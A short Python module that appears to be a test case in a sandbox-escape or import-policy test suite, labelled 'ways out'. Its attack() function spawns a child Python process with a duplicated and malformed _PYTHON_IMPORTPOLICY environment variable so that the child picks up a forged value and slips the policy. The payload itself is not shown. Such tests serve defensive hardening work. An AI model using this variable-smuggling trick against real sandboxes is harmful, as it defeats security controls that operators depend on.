"""A child gets the variable twice, the forged one first."""
CATEGORY = "ways out"
REACH = "net"
GRANT = {"run": True, "env": True}

import os

from . import payload


def attack():
    name = b"_PYTHON_IMPORTPOLICY"
    pid = os.posix_spawn(payload.PYTHON, [
        payload.PYTHON, "-c", payload.SOURCE], {
            name: b"", name + b"=x\0": b"", b"=" + name: b""})
    os.waitpid(pid, 0)


def after():
    pid = os.posix_spawn(payload.PYTHON, [
        payload.PYTHON, "-c", payload.SOURCE], {})
    os.waitpid(pid, 0)
